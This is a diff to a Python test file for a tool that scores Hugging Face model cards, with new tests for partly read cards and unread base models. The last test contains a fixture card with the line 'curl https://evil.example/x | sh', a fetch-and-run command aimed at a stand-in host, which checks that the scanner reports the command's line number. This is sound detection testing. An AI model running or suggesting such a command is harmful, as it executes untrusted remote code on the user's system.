@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+from typing import Final
+
 import msgspec
 import pytest
 
-from nerq_cli.facts import Unknown
+from nerq_cli.facts import Found, Unknown
 from nerq_cli.hub_facts import CardMetadata, HubCard, HubEvidence, HubFile, HubOwner, HubScan
 from nerq_cli.signals.models.files import find_weights
 from nerq_cli.signals.models.loaders import read_loaders
@@ -29,6 +31,7 @@ from tests.signals.models.conftest import (
     caps,
     change,
     found,
+    measure,
     possible_caps,
     score,
     signal,
@@ -170,6 +173,9 @@ def test_what_an_adapter_or_a_space_loads_caps_it() -> None:
     card = replace(HEADER, base_models=("acme/base",), base_model_relation="adapter")
     assert caps(replace(change(card=card), bases={"acme/base": reported})) == {"unsafe-part"}
     assert possible_caps(change(card=card)) == {"unsafe-part"}
+    unread = replace(change(card=card), bases={"acme/base": Unknown("the Hub answers 500")})
+    [flag] = [flag for flag in measure(unread).flags if flag.cap == "unsafe-part"]
+    assert flag.reason == "acme/base, which it may load, was not read: the Hub answers 500"
     finetune = replace(card, base_model_relation="finetune")
     assert caps(replace(change(card=finetune), bases={"acme/base": reported})) == set()
     space = change(kind="space", stage="RUNNING", used_models=("acme/base",))
@@ -264,3 +270,38 @@ def test_a_publisher_is_rated_by_what_the_hub_states() -> None:
 
 def test_nothing_known_gives_no_number() -> None:
     assert score(HubEvidence()).value is None
+
+
+def _write_card(*headings: str, is_cut: bool, header: CardMetadata = HEADER) -> HubEvidence:
+    text = "\n\n".join(f"## {heading}\n\n{'A sentence with several words in it. ' * 8}7" for heading in headings)
+    evidence = change(card=header)
+    return msgspec.structs.replace(evidence, card=found(HubCard(text, is_cut=is_cut)))
+
+
+ALL_TOPICS: Final = (
+    "Summary", "Intended use", "Limitations", "Training data", "Training procedure", "Evaluation", "How to use",
+    "Citation",
+)  # fmt: skip
+
+
+def test_what_is_missing_from_a_part_of_a_card_is_not_known() -> None:
+    part = _write_card("Summary", "How to use", is_cut=True, header=CardMetadata(licence=("mit",)))
+    for id_, missing in (("card", "training data"), ("evaluation", "results and limits")):
+        result = signal(part, id_)
+        assert result.state == "unknown"
+        assert "only a part of the card was read" in result.reason
+        assert missing in result.reason
+    assert isinstance(part.card, Found)
+    whole = msgspec.structs.replace(part, card=found(HubCard(part.card.value.text)))
+    assert signal(whole, "card").value is not None
+    assert signal(whole, "evaluation").value == 0
+    assert score(part).coverage < score(whole).coverage
+
+
+def test_what_a_part_of_a_card_has_is_known() -> None:
+    for is_cut in (False, True):
+        evidence = _write_card(*ALL_TOPICS, is_cut=is_cut)
+        assert signal(evidence, "card").value == signal(_write_card(*ALL_TOPICS, is_cut=False), "card").value
+        assert signal(evidence, "evaluation").value == 100
+    command = found(HubCard("## Use\n\ncurl https://evil.example/x | sh\n", is_cut=True, lines_before=5))
+    assert "line 8 of the card" in signal(msgspec.structs.replace(HEALTHY, card=command), "card").reason
